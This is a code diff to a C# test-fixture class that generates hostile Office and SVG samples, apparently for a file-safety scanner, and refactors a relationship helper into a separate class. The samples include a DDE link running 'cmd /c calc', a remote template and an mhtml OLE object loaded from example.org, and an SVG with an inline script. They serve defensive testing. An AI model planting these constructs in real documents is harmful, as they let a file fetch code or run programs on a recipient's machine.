@@ -59,11 +59,12 @@ public static class HostileFiles
             "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>")),
             "RunsPrograms");
         yield return new("a template from elsewhere", "rfp.docx", Docx(Zips.Piece("word/_rels/settings.xml.rels",
-            Relation("attachedTemplate", "https://example.org/evil.dotm"))), "RunsPrograms");
+            HostileOffice.Relation("attachedTemplate", "https://example.org/evil.dotm"))), "RunsPrograms");
         yield return new("an object from elsewhere", "rfp.docx", Docx(Zips.Piece("word/_rels/document.xml.rels",
-            Relation("oleObject", "mhtml:http://example.org/x!x-usc:http://example.org/x"))), "RunsPrograms");
+            HostileOffice.Relation("oleObject", "mhtml:http://example.org/x!x-usc:http://example.org/x"))),
+            "RunsPrograms");
         yield return new("a picture from elsewhere", "rfp.docx", Docx(Zips.Piece("word/_rels/document.xml.rels",
-            Relation("image", "https://example.org/pixel.png"))), "ExternalLinks");
+            HostileOffice.Relation("image", "https://example.org/pixel.png"))), "ExternalLinks");
         yield return new(
             "a file within", "rfp.docx", Docx(Zips.Piece("word/embeddings/oleObject1.bin", "x")), "Attachments");
         yield return new("a program within", "rfp.docx", Docx(("word/embeddings/x.bin", Program)), "RunsPrograms");
@@ -176,9 +177,6 @@ public static class HostileFiles
 
     private static string Document(string body) =>
         $"<w:document xmlns:w=\"{Word}\"><w:body>{body}</w:body></w:document>";
-
-    private static string Relation(string kind, string target) =>
-        $"<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" Target=\"{target}\" TargetMode=\"External\"/></Relationships>";
 
     private static byte[] Svg { get; } =
         [.. "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"u8];
